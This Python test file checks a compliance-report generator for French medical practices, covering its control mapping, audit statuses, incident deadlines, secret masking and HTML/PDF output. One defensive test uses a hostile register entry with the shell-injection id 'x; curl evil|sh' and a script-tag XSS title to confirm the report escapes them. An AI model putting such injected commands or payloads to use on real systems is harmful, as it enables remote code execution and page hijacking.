"""The compliance report: the check -> control mapping is complete and true, and the report built
from recorded results says what the checks said (every status, an unreachable host, a practice
with no website, an open incident and its 72-hour deadline, the drift since the last report);
its HTML is self-contained, opens in Debian's chromium without an error or a request, and the
PDF made from it holds the same sections."""

from __future__ import annotations

import ast
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "report"))
import build  # noqa: E402

SUITES = sorted((ROOT / "tests" / "integration").glob("test_*.py"))
CHROMIUM = os.environ.get("CABINET_CHROMIUM", "/usr/bin/chromium")


# ----------------------------------------------------------------------------- the mapping
def test_functions() -> dict[str, str]:
    """Every check of the suites, file::function -> the practice its file audits."""
    found = {}
    for suite in SUITES:
        for node in ast.parse(suite.read_text(encoding="utf-8")).body:
            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"):
                found[f"{suite.name}::{node.name}"] = suite.stem.removeprefix("test_")
    return found


test_functions.__test__ = False  # a helper, not a test


def test_every_check_is_mapped_and_every_mapping_names_a_check():
    controls = build.load_yaml(build.CONTROLS)
    checks = test_functions()
    assert len(checks) > 150, "the suites were not found"
    missing = sorted(set(checks) - set(controls["checks"]))
    unknown = sorted(set(controls["checks"]) - set(checks))
    assert missing == [], f"checks with no mapping in controls.yml: {missing}"
    assert unknown == [], f"controls.yml maps checks that do not exist: {unknown}"


def test_each_check_maps_to_a_described_control_of_its_own_practice():
    controls = build.load_yaml(build.CONTROLS)
    defs, practices = controls["controls"], controls["practices"]
    assert controls["schema"] == 1
    for check, control in controls["checks"].items():
        assert control in defs, f"{check}: no control {control!r}"
        practice = check.split("::")[0].removeprefix("test_").removesuffix(".py")
        assert defs[control]["practice"] == practice, f"{check} maps to {control}, a control of another practice"
    unused = sorted(set(defs) - set(controls["checks"].values()))
    assert unused == [], f"controls no check implements: {unused}"
    for name, control in defs.items():
        assert control["practice"] in practices, name
        assert control["libelle"].strip() and control["si_ecart"].strip(), f"{name}: French wording missing"
        assert control["qui"] in build.QUI, f"{name}: qui must be one of {list(build.QUI)}"
        for kind, values in control.get("refs", {}).items():
            assert kind in ("hygiene", "bp028", "other"), f"{name}: unknown reference kind {kind}"
            if kind == "hygiene":
                assert all(isinstance(v, int) and 1 <= v <= 42 for v in values), f"{name}: hygiene measures are 1-42"
            if kind == "bp028":
                assert all(re.fullmatch(r"R\d{1,2}", v) and 1 <= int(v[1:]) <= 80 for v in values), name
    assert set(practices) == {s.stem.removeprefix("test_") for s in SUITES}


def test_the_hygiene_guide_lists_its_42_measures_once():
    hygiene = build.load_yaml(build.HYGIENE)
    assert [m["n"] for m in hygiene["measures"]] == list(range(1, 43))
    roles = {p.name for p in (ROOT / "roles").iterdir()}
    for m in hygiene["measures"]:
        assert m["statut"] in hygiene["statuses"] and m["titre"] and m["note"], m["n"]
        assert set(m["roles"]) <= roles, f"measure {m['n']}: unknown roles {set(m['roles']) - roles}"


# ----------------------------------------------------------------------------- recorded results
CONTROLS = {
    "schema": 1,
    "practices": {
        "backup": {"titre": "Sauvegardes", "pratique": "Sauvegarder."},
        "antivirus": {"titre": "Antivirus", "pratique": "Un antivirus."},
        "website_privacy": {"titre": "Site internet", "pratique": "Le site."},
        "alerting": {"titre": "Alertes", "pratique": "Les alertes."},
    },
    "controls": {
        "bak-recent": {"practice": "backup", "refs": {"hygiene": [37]}, "libelle": "Une sauvegarde récente existe.",
                       "si_ecart": "Relancer la sauvegarde.", "qui": "prestataire"},
        "bak-hds": {"practice": "backup", "refs": {"other": ["CSP L.1111-8"]}, "libelle": "L'hébergeur est certifié HDS.",
                    "si_ecart": "Choisir un hébergeur certifié HDS.", "qui": "cabinet"},
        "av-fresh": {"practice": "antivirus", "refs": {"hygiene": [14]}, "libelle": "Les signatures sont à jour.",
                     "si_ecart": "Réparer la mise à jour des signatures.", "qui": "prestataire"},
        "av-lab": {"practice": "antivirus", "libelle": "Un virus est mis en quarantaine.", "si_ecart": "x", "qui": "prestataire"},
        "web-banner": {"practice": "website_privacy", "libelle": "Le bandeau.", "si_ecart": "x", "qui": "prestataire"},
        "alert-register": {"practice": "alerting", "libelle": "Le registre.", "si_ecart": "x", "qui": "prestataire"},
    },
    "checks": {
        "test_backup.py::test_recent": "bak-recent",
        "test_backup.py::test_hds": "bak-hds",
        "test_antivirus.py::test_fresh": "av-fresh",
        "test_antivirus.py::test_quarantine": "av-lab",
        "test_website_privacy.py::test_banner": "web-banner",
        "test_alerting.py::test_register": "alert-register",
    },
}
HYGIENE = {"schema": 1, "source": "Guide", "statuses": {"couverte": "Couverte", "organisationnelle": "Organisation"},
           "measures": [{"n": 1, "titre": "Former", "statut": "organisationnelle", "roles": [], "note": "À faire."},
                        {"n": 37, "titre": "Sauvegarder", "statut": "couverte", "roles": ["backup"], "note": "Fait."}]}
DOWN = "HostUnreachable: ws-2: Error: no container with name or ID \"ws-2\" found"


def check(name, host, outcome="passed", reason="", evidence=()):
    return {"check": name, "host": host, "outcome": outcome, "reason": reason, "evidence": [list(e) for e in evidence],
            "unreachable": reason if reason == DOWN else "", "seconds": 0.1}


def recorded(hds_ok: bool = True, incident_at: str = "2026-12-06T10:00:00Z") -> dict:
    incidents = [{"id": "20261206T100000Z-ab12", "status": "open", "detected": incident_at, "kind": "virus",
                  "nature": "Virus détecté sur un poste ou un serveur", "title": "Virus quarantined: Eicar in /srv/a.pdf",
                  "host": "srv.cabinet"},
                 {"id": "old", "status": "closed", "detected": "2026-01-01T00:00:00Z", "kind": "integrity",
                  "nature": "x", "title": "x", "closed": "2026-01-02T00:00:00Z", "note": "non notifié : test"}]
    return {"schema": 1, "inventory": {"practice_name": "Cabinet des Tilleuls", "hosts": {
        "srv": {"groups": ["backup_clients", "cabinet_managed"]}, "ws-1": {"groups": ["cabinet_managed"]},
        "ws-2": {"groups": ["cabinet_managed"]}}},
        "checks": [
            check("test_backup.py::test_recent", "srv", evidence=[("Dernière sauvegarde réussie (disque local)",
                                                                  "2026-12-07 01:30 UTC")]),
            check("test_backup.py::test_hds", "srv", *(("passed", "") if hds_ok else
                                                        ("failed", "AssertionError: the inventory names no HDS-certified host"))),
            check("test_antivirus.py::test_fresh", "srv", "failed", "AssertionError: signatures are 97 h old",
                  [("Signatures antivirus", "97 h")]),
            check("test_antivirus.py::test_quarantine", "srv", "skipped", "not run in a read-only audit: proves"),
            check("test_antivirus.py::test_fresh", "ws-1"),
            check("test_antivirus.py::test_quarantine", "ws-1", "skipped", "not run in a read-only audit: proves"),
            check("test_antivirus.py::test_fresh", "ws-2", "error", DOWN),
            check("test_antivirus.py::test_quarantine", "ws-2", "error", DOWN),
            check("test_website_privacy.py::test_banner", "srv", "skipped", "n/a: this practice has no website"),
            check("test_alerting.py::test_register", "srv", evidence=[("incidents", json.dumps(incidents))]),
            check("test_alerting.py::test_register", "ws-1", evidence=[("incidents", "[]")]),
            check("test_alerting.py::test_register", "ws-2", "error", DOWN),
        ]}


META = {"client": "tilleuls", "generated": "2026-12-07T10:00:00Z", "toolkit_version": "v1-test",
        "inventory_sha256": "ab" * 32}


def practice(report, key):
    return next(p for p in report["practices"] if p["key"] == key)


def row(report, key, host):
    return next(r for r in practice(report, key)["hosts"] if r["host"] == host)


def test_statuses_per_practice_and_host():
    report = build.build_report(recorded(), CONTROLS, HYGIENE, META)
    assert report["schema"] == build.SCHEMA and report["practice_name"] == "Cabinet des Tilleuls"
    assert row(report, "backup", "srv")["status"] == "conforme"
    assert row(report, "backup", "srv")["evidence"] == [["Dernière sauvegarde réussie (disque local)", "2026-12-07 01:30 UTC"]]
    assert row(report, "antivirus", "srv")["status"] == "ecart"
    gap = row(report, "antivirus", "srv")["gaps"][0]
    assert gap["control"] == "av-fresh" and "97 h" in gap["reason"] and gap["si_ecart"] and gap["qui"] == "prestataire"
    assert row(report, "antivirus", "ws-1")["status"] == "conforme"  # a read-only skip is not a gap, nor a pass
    assert row(report, "antivirus", "ws-1")["counts"] == {"passed": 1, "failed": 0, "not_applicable": 0, "not_run": 1}
    assert practice(report, "antivirus")["status"] == "ecart"  # the worst of its machines


def test_a_host_that_is_down_is_unreachable_never_compliant():
    report = build.build_report(recorded(), CONTROLS, HYGIENE, META)
    assert row(report, "antivirus", "ws-2")["status"] == "injoignable"
    assert row(report, "alerting", "ws-2")["status"] == "injoignable"
    assert row(report, "antivirus", "ws-2")["gaps"] == []  # not an écart: nothing could be checked
    assert report["summary"]["unreachable_hosts"] == ["ws-2"]
    assert practice(report, "alerting")["status"] == "injoignable"
    assert any("ws-2" in a["libelle"] for a in report["actions"])
    assert [h["reachable"] for h in report["hosts"]] == [True, True, False]


def test_a_practice_with_no_website_is_not_applicable():
    report = build.build_report(recorded(), CONTROLS, HYGIENE, META)
    assert practice(report, "website_privacy")["status"] == "non_applicable"
    assert report["summary"]["applicable"] == 3 and report["summary"]["held"] == 1  # backup only


def test_only_read_only_skips_make_a_practice_unverified():
    results = recorded()
    results["checks"] = [c for c in results["checks"] if not (c["check"] == "test_antivirus.py::test_fresh"
                                                              and c["host"] == "ws-1")]
    report = build.build_report(results, CONTROLS, HYGIENE, META)
    assert row(report, "antivirus", "ws-1")["status"] == "non_verifie"


def test_open_incidents_with_their_72_hour_deadline_and_draft_facts():
    report = build.build_report(recorded(incident_at="2026-12-06T10:00:00Z"), CONTROLS, HYGIENE, META)
    assert report["summary"]["open_incidents"] == 1 and len(report["closed_incidents"]) == 1
    incident = report["incidents"][0]
    assert incident["deadline"] == "2026-12-09T10:00:00Z" and incident["hours_left"] == 48 and not incident["overdue"]
    assert incident["host"] == "srv"  # the audited machine, whatever the entry (from the host) says
    assert all(label != "incidents" for label, _ in row(report, "alerting", "srv")["evidence"])
    late = build.build_report(recorded(incident_at="2026-12-01T10:00:00Z"), CONTROLS, HYGIENE, META)
    assert late["incidents"][0]["overdue"] is True


def test_what_a_host_s_register_hands_over_cannot_break_or_steer_the_report():
    """A compromised host's register (the alerting check's evidence) is data, not trusted:
    wrong types, an id made to be pasted in a shell, an unreadable line, too many entries."""
    results = recorded()
    odd = [{"id": "x; curl evil|sh", "status": "open", "detected": "2026-12-07T09:00:00Z", "kind": "virus",
            "title": "<script>alert(1)</script>", "host": "someone-else"},
           {"id": "line-3", "status": "unreadable", "detected": "", "kind": "?", "title": "unreadable line 3"},
           "not a dict", {"detected": 12, "status": ["open"]}]
    results["checks"] = [c if not (c["check"] == "test_alerting.py::test_register" and c["host"] == "ws-1") else
                         check("test_alerting.py::test_register", "ws-1", evidence=[("incidents", json.dumps(odd))])
                         for c in results["checks"]]
    results["checks"].append(check("test_alerting.py::test_register", "srv", evidence=[("incidents", '{"a": 1}')]))
    report = build.build_report(results, CONTROLS, HYGIENE, META)
    shown = {i["title"]: i for i in report["incidents"]}
    assert shown["<script>alert(1)</script>"]["id"] == "" and shown["<script>alert(1)</script>"]["host"] == "ws-1"
    page = build.render_html(report)
    assert "curl evil" not in page and "<script>alert(1)" not in page and "&lt;script&gt;" in page
    assert "le registre des incidents de cette machine n&#39;a pas pu être lu" in page


def test_the_shared_off_site_server_s_incidents_about_other_practices_are_left_out():
    results = recorded()
    results["inventory"]["hosts"]["backup1"] = {"groups": ["backup_offsite", "cabinet_managed"]}
    results["inventory"]["offsite_repositories"] = ["tilleuls-srv"]
    theirs = {"id": "20261207T010000Z-0000aaaa", "status": "open", "detected": "2026-12-07T01:00:00Z",
              "kind": "offsite_tampered", "title": "archives of chenes-srv disappeared", "about": "chenes-srv"}
    ours = {**theirs, "id": "20261207T020000Z-0000bbbb", "title": "archives of tilleuls-srv disappeared",
            "about": "tilleuls-srv"}
    server_wide = {**theirs, "id": "20261207T030000Z-0000cccc", "kind": "integrity", "title": "files changed", "about": ""}
    results["checks"].append(check("test_alerting.py::test_register", "backup1",
                                   evidence=[("incidents", json.dumps([theirs, ours, server_wide]))]))
    titles = [i["title"] for i in build.build_report(results, CONTROLS, HYGIENE, META)["incidents"]]
    assert "archives of chenes-srv disappeared" not in titles
    assert "archives of tilleuls-srv disappeared" in titles and "files changed" in titles


def test_a_skipped_inventory_wide_check_adds_no_machine_and_no_status():
    results = recorded()
    results["checks"].append(check("test_backup.py::test_recent", "", "skipped", "no Ansible log to audit"))
    report = build.build_report(results, CONTROLS, HYGIENE, META)
    assert practice(report, "backup")["status"] == "conforme"
    assert [h["name"] for h in report["hosts"]] == ["srv", "ws-1", "ws-2"]
    results["checks"][-1] = check("test_backup.py::test_recent", "", "failed", "AssertionError: secret in the log")
    failed = build.build_report(results, CONTROLS, HYGIENE, META)
    assert row(failed, "backup", build.INVENTORY_ROW)["status"] == "ecart"


def test_the_off_site_copy_without_an_hds_certificate_is_a_gap():
    report = build.build_report(recorded(hds_ok=False), CONTROLS, HYGIENE, META)
    assert row(report, "backup", "srv")["status"] == "ecart"
    assert [g["control"] for g in row(report, "backup", "srv")["gaps"]] == ["bak-hds"]


def test_an_unmapped_check_stops_the_report():
    results = recorded()
    results["checks"].append(check("test_backup.py::test_new_one", "srv"))
    with pytest.raises(ValueError, match="test_new_one"):
        build.build_report(results, CONTROLS, HYGIENE, META)


def test_the_fleet_page_shows_the_drift_since_the_previous_report(tmp_path):
    before = build.build_report(recorded(hds_ok=False), CONTROLS, HYGIENE, {**META, "generated": "2026-11-30T10:00:00Z"})
    after_results = recorded()
    after_results["checks"] = [c if not (c["check"] == "test_backup.py::test_recent") else
                               check("test_backup.py::test_recent", "srv", "failed", "AssertionError: no backup for 30 h")
                               for c in after_results["checks"]]
    after = build.build_report(after_results, CONTROLS, HYGIENE, META)
    for report, stamp in ((before, "2026-11-30-100000"), (after, "2026-12-07-100000")):
        folder = tmp_path / "tilleuls" / stamp
        folder.mkdir(parents=True)
        (folder / "report.json").write_text(json.dumps(report), encoding="utf-8")
    other = tmp_path / "chenes" / "2026-12-07-090000"
    other.mkdir(parents=True)
    (other / "report.json").write_text(json.dumps({**before, "client": "chenes", "practice_name": "Cabinet des Chênes"}),
                                       encoding="utf-8")
    fleet = build.build_fleet(tmp_path, CONTROLS["practices"])
    rows = {r["client"]: r for r in fleet["rows"]}
    assert rows["chenes"]["changes"]["previous"] is None
    change = rows["tilleuls"]["changes"]
    assert change["previous"] == "2026-11-30T10:00:00Z"
    assert [(c["host"], c["control"]) for c in change["new"]] == [("srv", "bak-recent")]
    assert [(c["host"], c["control"]) for c in change["fixed"]] == [("srv", "bak-hds")]
    assert rows["tilleuls"]["link"] == "tilleuls/2026-12-07-100000/rapport.html"
    page = build.write_fleet(tmp_path, CONTROLS)
    text = page.read_text(encoding="utf-8")
    assert "nouvel écart : srv – Une sauvegarde récente existe." in text
    assert "corrigé : srv – L&#39;hébergeur est certifié HDS." in text and "Cabinet des Chênes" in text


# ----------------------------------------------------------------------------- HTML, PDF, browser
@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    folder = tmp_path_factory.mktemp("report")
    report = build.build_report(recorded(hds_ok=False), CONTROLS, HYGIENE, META)
    report["practice_name"] = "Cabinet <b>des</b> Tilleuls & Cie"  # escaped, never markup
    page = build.render_html(report)
    (folder / "rapport.html").write_text(page, encoding="utf-8")
    build.write_pdf(page, folder / "rapport.pdf")
    return folder, page


SECTIONS = ["Le détail, pratique par pratique", "Incidents", "Guide d'hygiène de l'ANSSI : ce que couvre la boîte à outils",
            "Méthode et références"]


def test_the_html_is_french_escaped_and_self_contained(rendered):
    _, page = rendered
    assert '<html lang="fr">' in page and "Cabinet &lt;b&gt;des&lt;/b&gt; Tilleuls &amp; Cie" in page
    assert not re.search(r"""(src|href)=["'](https?:)?//""", page), "a resource or link leaves the file"
    assert "<script" not in page
    import html

    text = html.unescape(page)
    for heading in SECTIONS:
        assert f">{heading}</h2>" in text, heading
    assert "Brouillon de notification à la CNIL" in text and "9 décembre 2026 à 10 h 00 (UTC)" in text
    assert "Choisir un hébergeur certifié HDS." in text


def test_the_pdf_has_the_sections_of_the_html(rendered):
    folder, _ = rendered
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "pdftotext missing: apt-get install poppler-utils (scripts/setup-host.sh installs it)"
    text = subprocess.run([pdftotext, "-layout", str(folder / "rapport.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout
    flat = " ".join(text.split())
    for heading in ["Cabinet <b>des</b> Tilleuls & Cie", *SECTIONS, "Brouillon de notification à la CNIL", "À faire"]:
        assert " ".join(heading.split()) in flat, f"the PDF lacks {heading!r}"


def test_chromium_opens_it_without_an_error_or_a_request(rendered):
    folder, _ = rendered
    if not Path(CHROMIUM).exists():
        pytest.fail(f"no browser at {CHROMIUM} (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    requests, errors = [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.on("request", lambda r: requests.append(r.url))
        page.goto((folder / "rapport.html").as_uri())
        page.wait_for_load_state("load")
        assert page.title().startswith("Rapport de conformité")
        shown = page.inner_text("#synthese")
        browser.close()
    assert errors == [], errors
    assert requests == [(folder / "rapport.html").as_uri()], f"requests besides the file: {requests}"
    assert "Antivirus" in shown and "écart" in shown and "injoignable" in shown


# ----------------------------------------------------------------------------- the audit's side (conftest)
@pytest.fixture(scope="module")
def rig():
    """tests/integration/conftest.py, loaded as a module (it is the suites' shared rig)."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("cabinet_rig", ROOT / "tests" / "integration" / "conftest.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_a_failure_shows_no_secret_and_no_compared_value(rig, tmp_path):
    """What the report shows of a failure: the exception's message with the inventory's secrets
    masked, or for a bare assert the statement that failed (code), never the values compared."""
    inventory = tmp_path / "hosts.yml"
    inventory.write_text("all:\n  hosts:\n    h1:\n      ups_monitoring_password: 'S3cret-Ups-Pass'\n"
                         "      vault_backup_passphrase: 'Lw6!pZ2@nX9#'\n      alerting_practice_name: Cabinet\n",
                         encoding="utf-8")

    class Config:
        def getoption(self, name, default=None):
            return str(inventory) if name == "ansible_inventory" else default

    def failing(body):
        fake = tmp_path / "tests" / "integration" / "test_fake.py"
        fake.parent.mkdir(parents=True, exist_ok=True)
        fake.write_text(body, encoding="utf-8")
        try:
            exec(compile(body, str(fake), "exec"), {})
        except BaseException:  # noqa: BLE001
            return pytest.ExceptionInfo.from_current()

    shown = rig.failure_reason(Config(), failing("conf = 'MONITOR ups 1 upsmon S3cret-Ups-Pass primary'\n"
                                                 "assert 'secondary' in conf\n"))
    assert shown == "AssertionError (test_fake.py:2: assert 'secondary' in conf)"
    shown = rig.failure_reason(Config(), failing("raise AssertionError('upsmon.conf holds S3cret-Ups-Pass and Lw6!pZ2@nX9#')"))
    assert "S3cret" not in shown and "Lw6!" not in shown and shown.count("[secret masqué]") == 2


def test_a_failed_command_reads_as_the_command_and_what_it_said(rig, tmp_path):
    class Config:
        def getoption(self, name, default=None):
            return default

    try:
        raise RuntimeError("Unexpected exit code 1 for CommandResult(backend=<conftest.RuncPodmanBackend object at "
                           "0x7f>, exit_status=1, command=b'cat -- /etc/cabinet/login-watch.json', _stdout=b'', "
                           "_stderr=b'cat: /etc/cabinet/login-watch.json: No such file or directory\\n')")
    except RuntimeError:
        info = pytest.ExceptionInfo.from_current()
    assert rig.failure_reason(Config(), info) == (
        "RuntimeError: the command `cat -- /etc/cabinet/login-watch.json` failed (exit 1): "
        "cat: /etc/cabinet/login-watch.json: No such file or directory")


def test_a_gap_found_before_the_host_stalled_stays_a_gap_and_other_practices_keep_their_verdict():
    results = recorded()
    stalled = "CheckTimeout: srv: run ran past 300 s"
    results["checks"] += [{**check("test_antivirus.py::test_quarantine", "srv", "error", stalled), "unreachable": stalled}]
    report = build.build_report(results, CONTROLS, HYGIENE, META)
    assert row(report, "antivirus", "srv")["status"] == "ecart"  # its real gap (signatures) is kept
    assert row(report, "backup", "srv")["status"] == "conforme"  # every backup check ran and passed
    results["checks"] = [c for c in results["checks"] if not (c["check"] == "test_antivirus.py::test_fresh"
                                                              and c["host"] == "srv")]
    assert row(build.build_report(results, CONTROLS, HYGIENE, META), "antivirus", "srv")["status"] == "injoignable"


def test_a_flood_of_closed_incidents_cannot_push_an_open_one_out():
    results = recorded()
    old = {"id": "20261101T000000Z-0000aaaa", "status": "open", "detected": "2026-11-01T00:00:00Z", "kind": "virus",
           "title": "the old open one"}
    flood = [{"id": f"20261201T{i:06d}Z-0000bbbb", "status": "closed", "detected": "2026-12-01T00:00:00Z",
              "kind": "failed_logins", "title": "burst"} for i in range(3000)]
    results["checks"].append(check("test_alerting.py::test_register", "ws-1", evidence=[("incidents", json.dumps([old, *flood]))]))
    report = build.build_report(results, CONTROLS, HYGIENE, META)
    assert "the old open one" in [i["title"] for i in report["incidents"]]
    assert len(report["closed_incidents"]) == 200 + 1  # ws-1's 200 newest closed, and srv's one


def test_the_shared_server_s_own_incidents_show_no_details():
    results = recorded()
    results["inventory"]["hosts"]["backup1"] = {"groups": ["backup_offsite"]}
    own = {"id": "20261207T030000Z-0000cccc", "status": "open", "detected": "2026-12-07T03:00:00Z", "kind": "integrity",
           "title": "Files changed outside package updates", "details": "changed /srv/borg/cabinet-dupont/config"}
    results["checks"].append(check("test_alerting.py::test_register", "backup1", evidence=[("incidents", json.dumps([own]))]))
    shown = [i for i in build.build_report(results, CONTROLS, HYGIENE, META)["incidents"] if i["host"] == "backup1"]
    assert shown and shown[0]["details"] == ""


def test_the_folder_of_several_clients_is_refused(tmp_path, capsys):
    for client in ("tilleuls", "chenes"):
        (tmp_path / client).mkdir()
        (tmp_path / client / "hosts.yml").write_text("all: {}\n", encoding="utf-8")
    assert build.main(["run", "--inventory", str(tmp_path), "--out", str(tmp_path / "out")]) == 2
    assert "the folder of several clients" in capsys.readouterr().err


def test_secrets_are_masked_in_every_form_a_message_can_show_them(rig, tmp_path):
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(
        "all:\n  hosts:\n    h1:\n      ups_monitoring_password: 'Pässwort 99'\n      website_privacy_sites:\n"
        "        - name: www\n          tls_private_key: \"-----BEGIN KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END KEY-----\"\n"
        "      short_token: 'abcd'\n", encoding="utf-8")

    class Config:
        def getoption(self, name, default=None):
            return str(inventory) if name == "ansible_inventory" else default

    shown = rig.scrub(Config(), "bytes: P\\xc3\\xa4sswort 99; json: \"P\\u00e4sswort 99\"; folded: Pässwort 99; "
                                "pem line: MIIEvQIBADANBgkqhkiG9w0BAQEFAASC; short: abcd")
    for piece in ("sswort", "MIIEvQ", "abcd"):
        assert piece not in shown, shown


# ----------------------------------------------------------------------------- make demo's one audit
ALL_SUITES = sorted(p.name for p in SUITES)


def demo_audit(tmp_path: Path, audited: Path | None = None, **audit) -> tuple[Path, Path]:
    """A client folder and the audit folder make demo leaves (pytest's --report-json, with the
    checks that change a lab host: read_only false), whole unless ``audit`` says otherwise."""
    client = tmp_path / "demo"
    client.mkdir(exist_ok=True)
    (client / "hosts.yml").write_text("all: {}\n", encoding="utf-8")
    os.utime(client / "hosts.yml", (1_700_000_000, 1_700_000_000))  # written before the audit began
    folder = tmp_path / "demo-audit"
    folder.mkdir(exist_ok=True)
    results = recorded()
    results |= {"read_only": False, "inventory_source": str((audited or client / "hosts.yml").resolve()),
                "audit": {"exitstatus": 1, "collected": len(results["checks"]), "deselected": 0, "selection": False,
                          "suites": ALL_SUITES, "started": "2026-12-07T09:58:00Z", "finished": "2026-12-07T09:59:30Z"}
                | audit}
    (folder / "results.json").write_text(json.dumps(results), encoding="utf-8")
    (folder / "junit.xml").write_text("<testsuites/>", encoding="utf-8")
    (folder / "audit.log").write_text("E   assert 'compared value' in '...'\n", encoding="utf-8")
    return client, folder


@pytest.fixture
def no_second_audit(monkeypatch):
    monkeypatch.setattr(build, "audit", lambda *a, **k: pytest.fail("a second audit ran"))


def test_make_demo_s_report_reuses_its_whole_audit_and_says_how_the_checks_ran(tmp_path, no_second_audit):
    client, folder = demo_audit(tmp_path)
    report, out = build.report_one(client, tmp_path / "reports", CONTROLS, HYGIENE, 300, 1, from_audit=folder)
    assert report["read_only"] is False and report["summary"]["unreachable_hosts"] == ["ws-2"]
    # Dated when the audit ended; only its results are copied (its log has tracebacks).
    assert out.name == "2026-12-07-095930" and report["generated"] == "2026-12-07T09:59:30Z"
    assert sorted(p.name for p in out.iterdir()) == ["rapport.html", "rapport.pdf", "report.json", "results.json"]
    page = (out / "rapport.html").read_text(encoding="utf-8")
    assert "pas limité à la lecture seule" in page and "lancés en lecture seule" not in page
    # A client's report (build.py's own audit, read-only) keeps saying so.
    assert "lancés en lecture seule" in build.render_html(build.build_report(recorded(), CONTROLS, HYGIENE, META))


@pytest.mark.parametrize("audit, refused", [
    ({"exitstatus": 3}, "pytest ended with 3 status"),            # an internal error, an interruption (2)
    ({"exitstatus": 2}, "pytest ended with 2 status"),
    ({"collected": 40}, "checks reported of 40 collected"),        # -x, or a run cut short
    ({"selection": True}, "selection: True"),                      # -k, -m, --hosts
    ({"deselected": 3}, "selection: True"),
    ({"suites": ["test_backup.py"]}, "suites audited: test_backup.py"),
    ({"started": ""}, "no start or end time recorded"),
])
def test_a_partial_or_broken_audit_cannot_stand_for_one(tmp_path, no_second_audit, audit, refused):
    client, folder = demo_audit(tmp_path, **audit)
    with pytest.raises(RuntimeError, match=re.escape(refused)):
        build.report_one(client, tmp_path / "reports", CONTROLS, HYGIENE, 300, 1, from_audit=folder)
    assert not (tmp_path / "reports").exists(), "a refused audit leaves no report folder"


def test_an_audit_of_another_inventory_or_of_an_older_one_is_refused(tmp_path, no_second_audit):
    client, folder = demo_audit(tmp_path, audited=tmp_path / "other" / "hosts.yml")
    with pytest.raises(RuntimeError, match="is the audit of .*other/hosts.yml, not of .*demo/hosts.yml"):
        build.report_one(client, tmp_path / "reports", CONTROLS, HYGIENE, 300, 1, from_audit=folder)
    client, folder = demo_audit(tmp_path)
    (client / "group_vars").mkdir()
    (client / "group_vars" / "all.yml").write_text("backup_enabled: false\n", encoding="utf-8")  # edited since
    with pytest.raises(RuntimeError, match="1 inventory file.s. changed since it began .*all.yml"):
        build.report_one(client, tmp_path / "reports", CONTROLS, HYGIENE, 300, 1, from_audit=folder)


def test_a_results_file_that_is_a_link_is_refused(tmp_path, no_second_audit):
    client, folder = demo_audit(tmp_path)
    (folder / "results.json").rename(tmp_path / "elsewhere.json")
    (folder / "results.json").symlink_to(tmp_path / "elsewhere.json")
    with pytest.raises(RuntimeError, match="is a symbolic link"):
        build.report_one(client, tmp_path / "reports", CONTROLS, HYGIENE, 300, 1, from_audit=folder)
